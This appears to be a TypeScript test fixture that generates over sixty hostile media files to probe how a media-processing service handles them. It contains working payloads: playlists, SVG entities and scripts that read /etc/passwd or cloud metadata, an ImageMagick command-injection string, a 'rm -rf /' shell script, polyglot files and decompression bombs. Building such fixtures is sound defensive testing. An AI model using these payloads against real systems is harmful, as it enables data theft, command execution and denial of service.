import { deflateSync, crc32 } from "node:zlib";
import sharp from "sharp";

/** Malicious or broken files, built here so that every byte is known. */

export interface HostileFile {
  name: string;
  bytes: Buffer;
}

const text = (content: string): Buffer => Buffer.from(content);
const SECRET = "file:///etc/passwd";

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, check]);
};
const SIGNATURE = Buffer.from("89504e470d0a1a0a", "hex");
const header = (width: number, height: number, bits = 8, colours = 2): Buffer => {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data[8] = bits;
  data[9] = colours;
  return chunk("IHDR", data);
};
/** A PNG that declares a size, with arbitrary pixel data. */
const png = (width: number, height: number, pixels: Buffer = deflateSync(Buffer.alloc(1_000)), more: Buffer[] = []): Buffer =>
  Buffer.concat([SIGNATURE, header(width, height), ...more, chunk("IDAT", pixels), chunk("IEND", Buffer.alloc(0))]);

/** An MP4 box. */
const box = (type: string, ...content: Buffer[]): Buffer => {
  const data = Buffer.concat(content);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length + 8);
  head.write(type, 4, "latin1");
  return Buffer.concat([head, data]);
};
const FTYP = box("ftyp", text("isom\x00\x00\x02\x00isomiso2avc1mp41"));
const gifHeader = (width: number, height: number): Buffer => {
  const bytes = Buffer.from("GIF89a\x00\x00\x00\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff", "latin1");
  bytes.writeUInt16LE(width, 6);
  bytes.writeUInt16LE(height, 8);
  return bytes;
};
const GIF_FRAME = Buffer.from("21f9040400000000002c00000000010001000002024401003b".slice(0, -2), "hex");
const webp = (payload: Buffer): Buffer => {
  const bytes = Buffer.concat([text("RIFF\x00\x00\x00\x00WEBP"), payload]);
  bytes.writeUInt32LE(bytes.length - 8, 4);
  return bytes;
};
const wav = (claimedBytes: number, channels = 1, rate = 44_100, data = Buffer.alloc(64)): Buffer => {
  const bytes = Buffer.alloc(44);
  bytes.write("RIFF", 0);
  bytes.writeUInt32LE(claimedBytes, 4);
  bytes.write("WAVEfmt ", 8);
  bytes.writeUInt32LE(16, 16);
  bytes.writeUInt16LE(1, 20);
  bytes.writeUInt16LE(channels, 22);
  bytes.writeUInt32LE(rate, 24);
  bytes.writeUInt32LE((rate * channels * 2) % 2 ** 32, 28);
  bytes.writeUInt16LE((channels * 2) % 2 ** 16, 32);
  bytes.writeUInt16LE(16, 34);
  bytes.write("data", 36);
  bytes.writeUInt32LE(claimedBytes, 40);
  return Buffer.concat([bytes, data]);
};
const repeated = (byte: number, count: number): Buffer => Buffer.alloc(count, byte);

/** Playlists and scripts that refer to other files and URLs, by the programs that would follow them. */
const scriptsTo = (address: string): Record<string, string> => ({
  "a playlist (HLS)": `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${SECRET}\n#EXT-X-ENDLIST\n`,
  "a playlist with an address": "#EXTM3U\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data\n#EXT-X-ENDLIST\n",
  "a playlist with an address of ours": `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://${address}/a.ts\n#EXT-X-ENDLIST\n`,
  "a playlist by gopher": `#EXTM3U\n#EXTINF:1,\ngopher://${address}/_FLUSHALL\n`,
  "a script of concat": `ffconcat version 1.0\nfile '${SECRET}'\n`,
  "a manifest (DASH)": `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>${SECRET}</BaseURL></Period></MPD>`,
  "a session (SDP)": "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n",
  "subtitles with an address": `[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ${SECRET}\n`,
  "a script of AviSynth": `ImageSource("${SECRET}")`,
  "a picture of pictures (SVG)": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><image xlink:href="${SECRET}" width="9" height="9"/></svg>`,
  "an SVG with entities": `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&c;</text></svg>`,
  "an SVG with another's entity": `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${SECRET}">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;</text></svg>`,
  "a script of ImageMagick": `push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'http://${address}/x.png"|id; "'\npop graphic-context\n`,
  PostScript: "%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
  "a document (PDF)": "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n",
  "a page": `<html><script>fetch('http://${address}')</script></html>`,
  "a shell script": "#!/bin/sh\nrm -rf /\n",
  "a null byte": "\x00",
});

const scripts = (all: Record<string, string>): HostileFile[] =>
  Object.entries(all).map(([name, content]) => ({ name, bytes: text(content) }));

const asOthers = (all: Record<string, string>): HostileFile[] => {
  const playlist = text(all["a playlist with an address of ours"]!);
  return [
    { name: "a playlist behind the head of an MP4", bytes: Buffer.concat([FTYP, playlist]) },
    { name: "a script of concat behind the head of an MP4", bytes: Buffer.concat([FTYP, text(all["a script of concat"]!)]) },
    { name: "an SVG behind the head of a PNG", bytes: Buffer.concat([SIGNATURE, text(all["a picture of pictures (SVG)"]!)]) },
    { name: "an SVG behind the name of a GIF", bytes: text(`GIF89a${all["a picture of pictures (SVG)"]!}`) },
    { name: "an SVG behind the name of a bitmap", bytes: text(`BM${all["a picture of pictures (SVG)"]!}`) },
    { name: "a page behind the head of a GIF", bytes: Buffer.concat([gifHeader(1, 1), text(all["a page"]!)]) },
    { name: "a playlist behind the head of a WebM", bytes: Buffer.concat([Buffer.from("1a45dfa3934282847765626d", "hex"), playlist]) },
    { name: "a playlist behind the head of an Ogg", bytes: Buffer.concat([text("OggS\x00\x02"), playlist]) },
    { name: "a playlist behind the tag of an MP3", bytes: Buffer.concat([text("ID3\x03\x00\x00\x00\x00\x00\x00"), playlist]) },
    { name: "a playlist behind the head of a FLAC", bytes: Buffer.concat([text("fLaC"), playlist]) },
    { name: "a playlist behind the head of a WAV", bytes: Buffer.concat([wav(8), playlist]) },
    {
      name: "an archive behind the head of a JPEG",
      bytes: Buffer.concat([Buffer.from("ffd8ffe000104a46494600", "hex"), text("PK\x03\x04")]),
    },
    {
      name: "an MP4 that refers to another file",
      bytes: Buffer.concat([
        FTYP,
        box(
          "moov",
          box(
            "trak",
            box(
              "mdia",
              box(
                "minf",
                box("dinf", box("dref", Buffer.from("0000000000000001", "hex"), box("url ", Buffer.alloc(4), text(`${SECRET}\x00`)))),
              ),
            ),
          ),
        ),
      ]),
    },
  ];
};

const pictures = async (): Promise<HostileFile[]> => {
  const noise = sharp({
    create: { width: 200, height: 200, channels: 3, background: "#888888", noise: { type: "gaussian", mean: 128, sigma: 60 } },
  });
  const whole = await Promise.all(
    (["png", "jpeg", "webp", "avif", "gif"] as const).map(async (format) => ({
      format,
      bytes: await noise.clone().toFormat(format).toBuffer(),
    })),
  );
  const spoilt = (bytes: Buffer, from: number): Buffer => {
    const copy = Buffer.from(bytes);
    for (let at = from; at < copy.length; at += 7) copy[at] = copy[at]! ^ 0xff;
    return copy;
  };
  return [
    ...whole.flatMap(({ format, bytes }) => [
      { name: `half of a ${format}`, bytes: bytes.subarray(0, bytes.length / 2) },
      { name: `a few bytes of a ${format}`, bytes: bytes.subarray(0, 40) },
      { name: `a ${format} with every seventh byte turned`, bytes: spoilt(bytes, 30) },
    ]),
    { name: "a PNG of 50,000 × 50,000", bytes: png(50_000, 50_000) },
    { name: "a PNG of 2³¹-1 × 2³¹-1", bytes: png(0x7fffffff, 0x7fffffff) },
    { name: "a PNG of 0 × 0", bytes: png(0, 0) },
    { name: "a PNG of 100,000 × 1,001", bytes: png(100_000, 1_001) },
    { name: "a bomb of a PNG", bytes: png(20_000, 20_000, deflateSync(Buffer.alloc(40_000_000))) },
    {
      name: "a PNG with a bomb in its text",
      bytes: png(30_000, 30_000, undefined, [chunk("zTXt", Buffer.concat([text("a\x00\x00"), deflateSync(Buffer.alloc(20_000_000))]))]),
    },
    {
      name: "a PNG with a bomb in its profile",
      bytes: png(40_000, 40_000, undefined, [chunk("iCCP", Buffer.concat([text("a\x00\x00"), deflateSync(Buffer.alloc(20_000_000))]))]),
    },
    { name: "a PNG without pixels", bytes: Buffer.concat([SIGNATURE, header(9, 9), chunk("IEND", Buffer.alloc(0))]) },
    {
      name: "a PNG of unknown colours",
      bytes: Buffer.concat([SIGNATURE, header(9, 9, 7, 5), chunk("IDAT", deflateSync(Buffer.alloc(9))), chunk("IEND", Buffer.alloc(0))]),
    },
    { name: "a PNG whose length is a lie", bytes: Buffer.concat([SIGNATURE, Buffer.from("7fffffff49484452", "hex"), repeated(1, 64)]) },
    { name: "a GIF of 65,535 × 65,535", bytes: Buffer.concat([gifHeader(65_535, 65_535), GIF_FRAME, text(";")]) },
    { name: "a GIF without an end", bytes: Buffer.concat([gifHeader(60_000, 60_000), ...Array<Buffer>(5_000).fill(GIF_FRAME)]) },
    { name: "a GIF without pictures", bytes: gifHeader(9, 9) },
    {
      name: "a JPEG of markers alone",
      bytes: Buffer.concat([Buffer.from("ffd8", "hex"), ...Array<Buffer>(10_000).fill(Buffer.from("fffe0002", "hex"))]),
    },
    {
      name: "a JPEG that says 65,500 × 65,500",
      bytes: Buffer.from("ffd8ffe000104a46494600010100000100010000ffc0001108ffdcffdc03012200021101031101", "hex"),
    },
    {
      name: "a WebP of 16,384 × 16,384",
      bytes: webp(Buffer.concat([text("VP8X\x0a\x00\x00\x00\x00\x00\x00\x00"), Buffer.from("ff3f00ff3f00", "hex")])),
    },
    {
      name: "a WebP whose parts overlap",
      bytes: webp(Buffer.concat([text("VP8L"), Buffer.from("ffffff7f2f", "hex"), repeated(0xff, 64)])),
    },
    {
      name: "an AVIF of boxes in boxes",
      bytes: Buffer.concat([
        box("ftyp", text("avif\x00\x00\x00\0avifmif1")),
        Array.from({ length: 400 }).reduce<Buffer>((inner) => box("meta", inner), Buffer.alloc(0)),
      ]),
    },
    { name: "a HEIC", bytes: Buffer.concat([box("ftyp", text("heic\x00\x00\x00\x00heicmif1")), box("meta", Buffer.alloc(40))]) },
  ];
};

const sounds = (): HostileFile[] => [
  { name: "a WAV of 4 GB", bytes: wav(0xffffffff, 65_535, 0xffffffff) },
  { name: "a WAV without channels", bytes: wav(64, 0) },
  { name: "a WAV that ends in its head", bytes: wav(64).subarray(0, 30) },
  { name: "an MP3 of zeros", bytes: Buffer.concat([Buffer.from("fffb9000", "hex"), Buffer.alloc(100)]) },
  { name: "an MP3 whose tag is a lie", bytes: Buffer.concat([text("ID3\x04\x00\x00\x7f\x7f\x7f\x7f"), Buffer.alloc(200)]) },
  { name: "a FLAC of a head alone", bytes: Buffer.concat([text("fLaC"), Buffer.from("80000022", "hex"), repeated(0xff, 34)]) },
  {
    name: "an Ogg of empty pages",
    bytes: Buffer.concat(Array<Buffer>(500).fill(Buffer.concat([text("OggS\x00\x02"), Buffer.alloc(20), Buffer.from([0])]))),
  },
];

const videos = (): HostileFile[] => [
  { name: "an MP4 of a head alone", bytes: FTYP },
  { name: "an MP4 whose box is longer than it", bytes: Buffer.concat([FTYP, Buffer.from("7fffffff6d6f6f76", "hex"), Buffer.alloc(64)]) },
  {
    name: "an MP4 of boxes in boxes",
    bytes: Buffer.concat([FTYP, Array.from({ length: 500 }).reduce<Buffer>((inner) => box("moov", inner), Buffer.alloc(0))]),
  },
  {
    name: "an MP4 of 4 billion samples",
    bytes: Buffer.concat([
      FTYP,
      box("moov", box("trak", box("mdia", box("minf", box("stbl", box("stsz", Buffer.from("0000000000000000ffffffff", "hex"))))))),
    ]),
  },
  {
    name: "a WebM without an end",
    bytes: Buffer.concat([Buffer.from("1a45dfa3934282847765626d42878102428581021853806701ffffffffffffff", "hex"), Buffer.alloc(500)]),
  },
  {
    name: "a WebM of nested unknown sizes",
    bytes: Buffer.concat([
      Buffer.from("1a45dfa3934282847765626d", "hex"),
      ...Array<Buffer>(300).fill(Buffer.from("1549a96601ffffffffffffff", "hex")),
    ]),
  },
];

/** More than sixty files. @param address host:port of a server that detects followed URLs */
export const hostileFiles = async (address: string): Promise<HostileFile[]> => {
  const all = scriptsTo(address);
  return [...scripts(all), ...asOthers(all), ...(await pictures()), ...sounds(), ...videos()];
};
